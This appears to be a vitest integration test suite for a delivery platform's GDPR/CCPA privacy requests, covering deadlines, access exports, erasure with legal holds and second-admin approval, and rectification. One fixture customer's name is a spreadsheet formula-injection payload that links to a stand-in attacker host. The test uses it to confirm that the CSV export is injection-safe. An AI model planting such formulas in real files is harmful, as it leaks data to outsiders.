import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { type ApprovalRequired, type PrivacyEraseResult, type PrivacyRectifyResult, type PrivacyRequest, privacyDueAt } from '@depotline/shared';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAdminJson } from '../../test/admin-cli';
import { parseCsv } from '../../test/export-files';
import { backends } from '../../test/harness';
import { seedPhotoProof } from '../../test/proof-seed';
import { buildWorld, connectSocket, insertRoute, insertUser, openSession, rest, type TestSocket, type World } from '../../test/world';
import { createGrant } from '../access/grants';
import { proofFileStore, proofStorageKey } from '../proofs/storage';
import { recordChange } from '../sync/change-log';
import { encryptNewStopPii } from '../sync/stop-pii';
import { phoneKey } from './blind-index';

/**
 * The register of data subject requests on a real server (both engines): deadlines, who may see a
 * request, the right-of-access ZIP, erasure through the stop-erasure mechanism (holds respected,
 * proofs, links, queued webhooks, consents gone, the request forgetting the customer, sockets told;
 * destroying proofs or deleting stops only once a second admin approved),
 * rectification, and bad input.
 */

const operator = { kind: 'operator' as const, actor: { userId: null, label: 'test', deviceId: null, ip: null } };

interface Customer { customerName: string; phone: string; email: string; address: string }

describe.each(backends)('privacy requests (%s)', (backend) => {
  let w: World;
  let adminB: string;
  let adminAB: string;
  let approverAB: string;
  const tag = crypto.randomBytes(3).toString('hex');
  const ann: Customer = { customerName: `Ann Erasable ${tag}`, phone: '+44 7700 900123', email: `ann.${tag}@example.com`, address: `1 Secret Lane ${tag}` };
  const bob: Customer = { customerName: `=HYPERLINK("http://evil.example/"&A1) ${tag}`, phone: '+44 7700 900456', email: `bob.${tag}@example.com`, address: `2 Other Road ${tag}` };
  const photo = crypto.randomBytes(2048);

  async function insertCustomerStop(locationId: string, routeId: string, id: string, c: Customer): Promise<void> {
    const { ctx } = w;
    await ctx.db.transaction().execute(async (trx) => {
      const version = await recordChange(trx, locationId, 'stop', id, ctx.now());
      await trx.insertInto('stops').values({
        id, location_id: locationId, route_id: routeId, sequence: 9,
        ...encryptNewStopPii(ctx, id, { ...c, notes: `Ring twice ${tag}`, coordinates: { lat: 51.5, lng: -0.12 }, paymentRef: null, failureNote: null }),
        window_start: 1_800_000_000_000, window_end: 1_800_003_600_000, status: 'planned', eta: null, version, updated_at: ctx.now(), updated_by: 'test',
      }).execute();
    });
  }

  const seedPhoto = (stopId: string, locationId: string) => seedPhotoProof(w, stopId, locationId, photo);

  const create = (token: string, body: Record<string, unknown>) => rest(w, 'POST', '/privacy/requests', token, body);
  /** An erasure that destroys proofs or deletes stops: asked (202), approved by a second admin; the request as it is then. */
  async function eraseApproved(id: string, token: string, body: Record<string, unknown>): Promise<PrivacyRequest> {
    const asked = await rest(w, 'POST', `/privacy/requests/${id}/erase`, token, body);
    expect(asked.status).toBe(202);
    const approval = (asked.body as unknown as ApprovalRequired).approval;
    expect(approval.kind).toBe('privacy.erase');
    expect((await rest(w, 'POST', `/approvals/${approval.id}/approve`, approverAB, {})).status).toBe(200);
    return (await rest(w, 'GET', `/privacy/requests/${id}`, token)).body as unknown as PrivacyRequest;
  }
  const admin = () => w.users.admin.token;

  beforeAll(async () => {
    w = await buildWorld(backend, 1);
    const b = await insertUser(w.ctx, 'admin-b');
    await createGrant(w.ctx, operator, { userId: b, role: 'admin', locationIds: [w.B] });
    adminB = (await openSession(w.ctx, b)).token;
    const ab = await insertUser(w.ctx, 'admin-ab');
    await createGrant(w.ctx, operator, { userId: ab, role: 'admin', locationIds: [w.A, w.B] });
    adminAB = (await openSession(w.ctx, ab)).token;
    const ab2 = await insertUser(w.ctx, 'admin-ab-2');
    await createGrant(w.ctx, operator, { userId: ab2, role: 'admin', locationIds: [w.A, w.B] });
    approverAB = (await openSession(w.ctx, ab2)).token;
    await insertRoute(w.ctx, w.A, 'route-a3', null);
    // Ann: two stops at A (phone written two ways), one at B; Bob: one at A.
    await insertCustomerStop(w.A, w.routes.A1, 'ann-a1', ann);
    await insertCustomerStop(w.A, 'route-a3', 'ann-a2', { ...ann, phone: '07700 900123' });
    await insertCustomerStop(w.B, w.routes.B1, 'ann-b1', ann);
    await insertCustomerStop(w.A, w.routes.A2, 'bob-a1', bob);
  }, 120_000);

  afterAll(async () => {
    await w?.dispose();
  });

  it('registers a request with its deadline: one calendar month (GDPR) or 45 days (CCPA), audited without the customer', async () => {
    const jan31 = Date.UTC(2026, 0, 31, 9, 30);
    expect(privacyDueAt('gdpr', jan31)).toBe(Date.UTC(2026, 1, 28, 9, 30));
    expect(privacyDueAt('gdpr', Date.UTC(2026, 11, 15))).toBe(Date.UTC(2027, 0, 15));
    expect(privacyDueAt('ccpa', jan31)).toBe(jan31 + 45 * 86_400_000);

    const received = w.ctx.now() - 40 * 86_400_000;
    const res = await create(admin(), { kind: 'access', law: 'gdpr', locationIds: [w.A], receivedAt: received, subject: { phone: ann.phone }, reference: 'TICKET-1' });
    expect(res.status).toBe(201);
    const r = res.body as unknown as PrivacyRequest;
    expect(r.dueAt).toBe(privacyDueAt('gdpr', received));
    expect(r.overdue).toBe(true);
    expect(r.subject?.phone).toBe(ann.phone);
    const listed = (await rest(w, 'GET', '/privacy/requests?overdue=true', admin())).body as { requests: PrivacyRequest[] };
    expect(listed.requests.map((x) => x.id)).toContain(r.id);

    const stored = await w.ctx.db.selectFrom('privacy_requests').selectAll().where('id', '=', r.id).executeTakeFirstOrThrow();
    expect(JSON.stringify(stored)).not.toContain('900123');
    const audit = await w.ctx.db.selectFrom('audit_log').select('details').where('action', '=', 'privacy.request.create').where('target_id', '=', r.id).execute();
    expect(audit).toHaveLength(1);
    expect(audit[0]!.details).toContain('phone');
    expect(audit[0]!.details).not.toContain('900123');
  });

  it('bad input and other locations: clear answers, nothing stored, and no telling whether a request exists', async () => {
    const before = Number((await w.ctx.db.selectFrom('privacy_requests').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
    expect((await create(admin(), { kind: 'erasure', law: 'gdpr', locationIds: [w.A], subject: { customerName: 'No Identifier' } })).status).toBe(400);
    expect((await create(admin(), { kind: 'erasure', law: 'gdpr', locationIds: [w.A], subject: { phone: ann.phone }, receivedAt: w.ctx.now() + 86_400_000 })).status).toBe(400);
    expect((await create(admin(), { kind: 'erasure', law: 'hipaa', locationIds: [w.A], subject: { phone: ann.phone } })).status).toBe(400);
    // An admin of A asks about B; a dispatcher of A holds no privacy.manage.
    expect((await create(admin(), { kind: 'erasure', law: 'gdpr', locationIds: [w.A, w.B], subject: { phone: ann.phone } })).status).toBe(403);
    expect((await create(w.users.dispatcher.token, { kind: 'erasure', law: 'gdpr', locationIds: [w.A], subject: { phone: ann.phone } })).status).toBe(403);
    const after = Number((await w.ctx.db.selectFrom('privacy_requests').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
    expect(after).toBe(before);

    const atA = (await create(admin(), { kind: 'erasure', law: 'ccpa', locationIds: [w.A], subject: { phone: ann.phone } })).body as unknown as PrivacyRequest;
    const unknown = await rest(w, 'GET', '/privacy/requests/dsr_0000000000000000', adminB);
    const foreign = await rest(w, 'GET', `/privacy/requests/${atA.id}`, adminB);
    expect(foreign.status).toBe(404);
    expect(foreign.body).toEqual(unknown.body);
    expect((await rest(w, 'POST', `/privacy/requests/${atA.id}/erase`, adminB, {})).status).toBe(404);
    expect((await rest(w, 'POST', `/privacy/requests/${atA.id}/access-export`, adminB)).status).toBe(404);
    expect((await rest(w, 'GET', `/privacy/requests/${atA.id}`, w.users.dispatcher.token)).status).toBe(404);
    const listB = (await rest(w, 'GET', '/privacy/requests', adminB)).body as { requests: PrivacyRequest[] };
    expect(listB.requests.map((r) => r.id)).not.toContain(atA.id);
    // The wrong kind of request for the step: 409, nothing done.
    const exported = await rest(w, 'POST', `/privacy/requests/${atA.id}/access-export`, admin());
    expect(exported.status).toBe(409);
    const denied = await w.ctx.db.selectFrom('audit_log').select('outcome').where('target_id', '=', atA.id).where('outcome', '=', 'denied').execute();
    expect(denied.length).toBeGreaterThanOrEqual(3);
    expect((await rest(w, 'POST', `/privacy/requests/${atA.id}/close`, admin(), { reason: 'duplicate' })).status).toBe(200);
    expect((await rest(w, 'POST', `/privacy/requests/${atA.id}/erase`, admin(), {})).status).toBe(409);
  });

  it('right of access: a ZIP with the customer\'s stops at the request\'s locations as JSON and injection-safe CSV, and the proof files decrypted', async () => {
    const proofId = await seedPhoto('ann-a1', w.A);
    const r = (await create(admin(), { kind: 'access', law: 'gdpr', locationIds: [w.A], subject: { phone: '07700900123' } })).body as unknown as PrivacyRequest;
    const res = await fetch(`${w.server.url}/api/v1/privacy/requests/${r.id}/access-export`, { method: 'POST', headers: { authorization: `Bearer ${admin()}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/zip');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('x-depotline-stop-count')).toBe('2');
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    const json = JSON.parse(strFromU8(files['customer.json']!)) as { stops: { stopId: string; customerName: string; proofs: { id: string; file: string; capturedBy?: string }[] }[] };
    expect(json.stops.map((s) => s.stopId).sort()).toEqual(['ann-a1', 'ann-a2']);
    expect(json.stops[0]!.customerName).toBe(ann.customerName);
    const proof = json.stops.find((s) => s.stopId === 'ann-a1')!.proofs[0]!;
    expect(proof.id).toBe(proofId);
    expect(proof.capturedBy).toBeUndefined();
    expect(Buffer.from(files[proof.file]!).equals(photo)).toBe(true);
    const csv = strFromU8(files['stops.csv']!);
    expect(csv).toContain(ann.address);
    expect(csv).not.toContain(bob.customerName.slice(0, 12));
    expect(Object.keys(files).some((f) => f.includes('ann-b1')) || JSON.stringify(json).includes('ann-b1')).toBe(false);

    // Bob's name starts with "=": in the CSV it is text, not a formula.
    const rb = (await create(admin(), { kind: 'access', law: 'ccpa', locationIds: [w.A], subject: { email: bob.email.toUpperCase() } })).body as unknown as PrivacyRequest;
    const zb = unzipSync(new Uint8Array(await (await fetch(`${w.server.url}/api/v1/privacy/requests/${rb.id}/access-export`, { method: 'POST', headers: { authorization: `Bearer ${admin()}` } })).arrayBuffer()));
    const rows = parseCsv(Buffer.from(zb['stops.csv']!));
    expect(rows.some((row) => row.includes(`'${bob.customerName}`))).toBe(true);
    expect(rows.flat().some((cell) => cell.startsWith('='))).toBe(false);

    const audit = await w.ctx.db.selectFrom('audit_log').select('details').where('action', '=', 'privacy.request.accessExport').where('target_id', '=', r.id).execute();
    expect(audit).toHaveLength(1);
    expect(audit[0]!.details).toContain('"stops":2');
    expect(audit[0]!.details).not.toContain(ann.customerName);
    const stored = (await rest(w, 'GET', `/privacy/requests/${r.id}`, admin())).body as unknown as PrivacyRequest;
    expect(stored.actions.map((a) => a.action)).toEqual(['received', 'accessExport']);
  });

  it('erasure: every stop not under a hold loses the customer, with proofs, links, queued webhooks and consents; the hold is named; sockets are told; a second admin approved it first (proofs go)', async () => {
    const { ctx } = w;
    const proofId = await seedPhoto('ann-a2', w.A);
    const now = ctx.now();
    await ctx.db.insertInto('tracking_links').values({
      id: 'tl-ann', token_hash: crypto.randomBytes(32).toString('hex'), stop_id: 'ann-a2', location_id: w.A, origin: 'dispatcher',
      created_by: null, created_at: now, expires_at: now + 86_400_000, revoked_at: null, revoked_by: null,
    }).execute();
    await ctx.db.insertInto('tracking_link_hits').values({ link_id: 'tl-ann', location_id: w.A, hour: now - (now % 3_600_000), views: 3, audited_at: null }).execute();
    // A queued delivery for the stop; its receiver is paused, so the worker leaves it queued.
    await ctx.db.insertInto('integrations').values({
      id: 'int_x', name: 'Shop', kind: 'shop', contact: 'it@shop.example', data_profile: '{}', ip_allowlist: '[]', auto_suspend_on_alert: 0,
      suspended_at: null, suspended_reason: null, suspended_by: null, version: 1, created_at: now, created_by: 'test', updated_at: now, updated_by: 'test',
    }).execute();
    await ctx.db.insertInto('webhook_subscriptions').values({
      id: 'whsub_x', integration_id: 'int_x', url: 'https://hooks.shop.example/in', events: '[]', secret_enc: null, previous_secret_enc: null,
      previous_secret_expires_at: null, status: 'paused', pause_reason: 'admin', paused_at: now, failing_since: null, last_success_at: null,
      version: 1, created_at: now, created_by: null, updated_at: now,
    }).execute();
    await ctx.db.insertInto('webhook_deliveries').values({
      id: 'msg_ann', subscription_id: 'whsub_x', integration_id: 'int_x', event_type: 'stop.status_changed', location_id: w.A, stop_id: 'ann-a2',
      data: '{}', occurred_at: now, created_at: now, next_attempt_at: now + 86_400_000, retry_until: now + 86_400_000, attempts: 0, status: 'pending',
      delivered_at: null, last_attempt_at: null, last_status: null,
    }).execute();
    const key = phoneKey(ctx, ann.phone)!;
    await ctx.db.insertInto('customer_consents').values({ id: 'cons-ann', customer_key: key, location_id: w.A, purpose: 'trackingSms', granted: 1, source: 'web', recorded_at: now, recorded_by: 'test' }).execute();
    await ctx.db.insertInto('customer_flags').values({ customer_key: key, location_id: w.A, do_not_sell: 1, updated_at: now, updated_by: 'test' }).execute();
    await ctx.db.insertInto('legal_holds').values({
      id: 'hold-ann-b1', scope: 'stop', location_id: w.B, stop_id: 'ann-b1', customer_key: null, reason: 'Insurance claim 42 about a damaged parcel',
      owner: 'legal@depot.example', placed_by: 'test', placed_at: now, released_at: null, released_by: null, release_reason: null,
    }).execute();
    const before = await ctx.db.selectFrom('stops').select(['id', 'phone_enc', 'customer_name_enc']).where('id', 'in', ['ann-a1', 'ann-a2']).execute();

    const socket: TestSocket = await connectSocket(w.server.url, w.users.dispatcher.token);
    try {
      const r = (await create(adminAB, { kind: 'erasure', law: 'gdpr', locationIds: [w.A, w.B], subject: { customerName: ann.customerName, phone: ann.phone, email: ann.email } })).body as unknown as PrivacyRequest;
      // Proofs would be destroyed: a second admin approves first, and the erasure runs then.
      const done = await eraseApproved(r.id, adminAB, {});
      const step = done.actions.at(-1)!;
      expect(step.counts).toMatchObject({ stopsFound: 3, stopsErased: 2, stopsHeld: 1, trackingLinksDeleted: 1, webhookDeliveriesDropped: 1, consentsRemoved: 1, sharingFlagsRemoved: 1 });
      expect(step.counts!.proofsDestroyed).toBeGreaterThanOrEqual(2);
      expect(step.holds).toEqual([{ holdId: 'hold-ann-b1', scope: 'stop', locationId: w.B, reason: 'Insurance claim 42 about a damaged parcel', owner: 'legal@depot.example' }]);
      expect(done.status).toBe('open');

      const stops = await ctx.db.selectFrom('stops').selectAll().where('id', 'in', ['ann-a1', 'ann-a2', 'ann-b1', 'bob-a1']).orderBy('id').execute();
      const byId = Object.fromEntries(stops.map((s) => [s.id, s]));
      for (const id of ['ann-a1', 'ann-a2']) {
        expect(byId[id]!.phone_enc).toBeNull();
        expect(byId[id]!.email_enc).toBeNull();
        expect(byId[id]!.phone_bidx).toBeNull();
        expect(byId[id]!.pseudonymised_at).not.toBeNull();
        expect(before.some((b) => JSON.stringify(byId[id]).includes(b.phone_enc!) || JSON.stringify(byId[id]).includes(b.customer_name_enc))).toBe(false);
      }
      expect(byId['ann-b1']!.phone_enc).not.toBeNull();
      expect(byId['bob-a1']!.phone_enc).not.toBeNull();
      const proof = await ctx.db.selectFrom('proofs').selectAll().where('id', '=', proofId).executeTakeFirstOrThrow();
      expect(proof.wrapped_key).toBeNull();
      expect(await proofFileStore(ctx).get(proofStorageKey(proofId))).toBeNull();
      expect(await ctx.db.selectFrom('tracking_links').select('id').where('stop_id', '=', 'ann-a2').execute()).toEqual([]);
      expect(await ctx.db.selectFrom('tracking_link_hits').select('link_id').where('link_id', '=', 'tl-ann').execute()).toEqual([]);
      expect(await ctx.db.selectFrom('webhook_deliveries').select('id').where('id', '=', 'msg_ann').execute()).toEqual([]);
      expect(await ctx.db.selectFrom('customer_consents').select('id').where('customer_key', '=', key).execute()).toEqual([]);
      await expect.poll(() => socket.received.filter((c) => JSON.stringify(c).includes('ann-a2')).length, { timeout: 15_000 }).toBeGreaterThan(0);

      const evidence = await ctx.db.selectFrom('audit_log').select(['details', 'location_id']).where('action', '=', 'retention.erase').execute();
      const contact = evidence.filter((e) => e.details.includes(r.id) && e.details.includes('"class":"contact"'));
      expect(contact).toHaveLength(1);
      expect(contact[0]!.details).toContain('"count":2');

      // Released hold, second erasure: the request closes and forgets the customer.
      await ctx.db.updateTable('legal_holds').set({ released_at: ctx.now(), released_by: 'test', release_reason: 'claim settled' }).where('id', '=', 'hold-ann-b1').execute();
      const second = (await rest(w, 'POST', `/privacy/requests/${r.id}/erase`, adminAB, {})).body as unknown as PrivacyEraseResult;
      expect(second).toMatchObject({ stopsFound: 1, stopsErased: 1, held: { stops: 0, holds: [] } });
      expect(second.request).toMatchObject({ status: 'closed', closeReason: 'completed', subject: null });
      const row = await ctx.db.selectFrom('privacy_requests').selectAll().where('id', '=', r.id).executeTakeFirstOrThrow();
      expect(row.subject_enc).toBeNull();
      const everything = JSON.stringify(row) + JSON.stringify(await ctx.db.selectFrom('audit_log').select('details').where('target_id', '=', r.id).execute());
      for (const value of [ann.customerName, ann.email, '900123', ann.address]) expect(everything).not.toContain(value);
      expect((await rest(w, 'POST', `/privacy/requests/${r.id}/erase`, adminAB, {})).status).toBe(409);
    } finally {
      socket.disconnect();
    }
  });

  it('erasure in delete mode, once approved, removes the stops (sockets get removed); a hold on the customer keeps their stops and consents', async () => {
    const { ctx } = w;
    const cat: Customer = { customerName: `Cat Deleted ${tag}`, phone: '+44 7700 900789', email: `cat.${tag}@example.com`, address: `4 Gone Way ${tag}` };
    const dan: Customer = { customerName: `Dan Held ${tag}`, phone: '+44 7700 900321', email: `dan.${tag}@example.com`, address: `5 Kept Close ${tag}` };
    await insertCustomerStop(w.A, w.routes.A1, 'cat-a1', cat);
    await insertCustomerStop(w.A, w.routes.A1, 'dan-a1', dan);
    const danKey = phoneKey(ctx, dan.phone)!;
    const now = ctx.now();
    await ctx.db.insertInto('customer_consents').values({ id: 'cons-dan', customer_key: danKey, location_id: w.A, purpose: 'trackingSms', granted: 1, source: 'web', recorded_at: now, recorded_by: 'test' }).execute();
    await ctx.db.insertInto('legal_holds').values({
      id: 'hold-dan', scope: 'customer', location_id: w.A, stop_id: null, customer_key: danKey, reason: 'Fraud investigation 7',
      owner: 'security@depot.example', placed_by: 'test', placed_at: now, released_at: null, released_by: null, release_reason: null,
    }).execute();
    const socket: TestSocket = await connectSocket(w.server.url, w.users.dispatcher.token);
    try {
      const rc = (await create(admin(), { kind: 'erasure', law: 'ccpa', locationIds: [w.A], subject: { email: cat.email } })).body as unknown as PrivacyRequest;
      const doneC = await eraseApproved(rc.id, admin(), { mode: 'delete' });
      expect(doneC).toMatchObject({ status: 'closed', subject: null });
      expect(doneC.actions.at(-1)!.counts).toMatchObject({ stopsFound: 1, stopsErased: 1 });
      expect(await ctx.db.selectFrom('stops').select('id').where('id', '=', 'cat-a1').execute()).toEqual([]);
      await expect.poll(() => socket.received.some((c) => JSON.stringify(c).includes('"removed"') && JSON.stringify(c).includes('cat-a1')), { timeout: 15_000 }).toBe(true);

      const rd = (await create(admin(), { kind: 'erasure', law: 'gdpr', locationIds: [w.A], subject: { phone: dan.phone } })).body as unknown as PrivacyRequest;
      const outD = (await rest(w, 'POST', `/privacy/requests/${rd.id}/erase`, admin(), {})).body as unknown as PrivacyEraseResult;
      expect(outD).toMatchObject({ stopsFound: 1, stopsErased: 0, consentsRemoved: 0, held: { stops: 1 } });
      expect(outD.held.holds[0]).toMatchObject({ holdId: 'hold-dan', scope: 'customer', reason: 'Fraud investigation 7', owner: 'security@depot.example' });
      expect(outD.summary).toMatch(/kept by 1 legal hold/);
      expect(outD.request).toMatchObject({ status: 'open', subject: { phone: dan.phone } });
      const danRow = await ctx.db.selectFrom('stops').selectAll().where('id', '=', 'dan-a1').executeTakeFirstOrThrow();
      expect(danRow.phone_enc).not.toBeNull();
      expect(await ctx.db.selectFrom('customer_consents').select('id').where('id', '=', 'cons-dan').execute()).toHaveLength(1);
    } finally {
      socket.disconnect();
    }
  });

  it('an erasure for a customer with no data says so and keeps the request open', async () => {
    const r = (await create(admin(), { kind: 'erasure', law: 'gdpr', locationIds: [w.A], subject: { email: `nobody.${tag}@example.com` } })).body as unknown as PrivacyRequest;
    const out = (await rest(w, 'POST', `/privacy/requests/${r.id}/erase`, admin(), {})).body as unknown as PrivacyEraseResult;
    expect(out).toMatchObject({ stopsFound: 0, stopsErased: 0 });
    expect(out.summary).toMatch(/No data of this customer was found/);
    expect(out.request.status).toBe('open');
    // Closed as completed, the erasure request forgets the customer it found nothing of.
    const closed = (await rest(w, 'POST', `/privacy/requests/${r.id}/close`, admin(), { reason: 'completed' })).body as unknown as PrivacyRequest;
    expect(closed).toMatchObject({ status: 'closed', closeReason: 'completed', subject: null });
  });

  it('rectification corrects every stop of the customer and the request follows the corrected identifiers', async () => {
    const r = (await create(admin(), { kind: 'rectification', law: 'gdpr', locationIds: [w.A], subject: { email: bob.email } })).body as unknown as PrivacyRequest;
    const res = await rest(w, 'POST', `/privacy/requests/${r.id}/rectify`, admin(), { address: `3 Corrected Street ${tag}`, email: `robert.${tag}@example.com` });
    expect(res.status).toBe(200);
    const out = res.body as unknown as PrivacyRectifyResult;
    expect(out.stopsChanged).toBe(1);
    expect(out.request.subject?.email).toBe(`robert.${tag}@example.com`);
    const search = await rest(w, 'POST', '/privacy/customers/search', admin(), { customer: { email: `robert.${tag}@example.com` }, locationIds: [w.A] });
    expect(JSON.stringify(search.body)).toContain(`3 Corrected Street ${tag}`);
  });

  it('the command line registers from stdin (never argv), lists, exports to a new 0600 file, and refuses bad input clearly', async () => {
    const env = w.server.env;
    const added = await runAdminJson<PrivacyRequest>(env, ['privacy', 'request-add', '--kind', 'access', '--law', 'ccpa', '--locations', w.A], { stdin: JSON.stringify({ email: bob.email }) });
    expect(added.code).toBe(0);
    expect(Date.parse(String(added.json.dueAt)) - Date.parse(String(added.json.receivedAt))).toBe(45 * 86_400_000);
    const audit = await w.ctx.db.selectFrom('audit_log').select('actor').where('action', '=', 'privacy.request.create').where('target_id', '=', added.json.id).executeTakeFirstOrThrow();
    expect(audit.actor).toMatch(/^cli:/);
    const listed = await runAdminJson<{ requests: PrivacyRequest[] }>(env, ['privacy', 'requests', '--status', 'open']);
    expect(listed.json.requests.map((r) => r.id)).toContain(added.json.id);
    const out = path.join(env.dir, `access-${tag}.zip`);
    const exported = await runAdminJson<{ stops: number }>(env, ['privacy', 'export', '--id', added.json.id, '--out', out]);
    expect(exported.code).toBe(0);
    expect(fs.statSync(out).mode & 0o777).toBe(0o600);
    expect(Object.keys(unzipSync(new Uint8Array(fs.readFileSync(out))))).toContain('customer.json');
    const again = await runAdminJson(env, ['privacy', 'export', '--id', added.json.id, '--out', out]);
    expect(again.code).toBe(1);
    const noSubject = await runAdminJson(env, ['privacy', 'request-add', '--kind', 'erasure', '--law', 'gdpr', '--locations', w.A], { stdin: '{"customerName":"Only A Name"}' });
    expect(noSubject.code).toBe(1);
    expect(JSON.stringify(noSubject.json)).toMatch(/phone or email/);
    const unknownLocation = await runAdminJson(env, ['privacy', 'request-add', '--kind', 'erasure', '--law', 'gdpr', '--locations', 'nowhere'], { stdin: JSON.stringify({ phone: ann.phone }) });
    expect(unknownLocation.code).toBe(1);
    expect(JSON.stringify(unknownLocation.json)).toMatch(/no such location: nowhere/);
  });
});
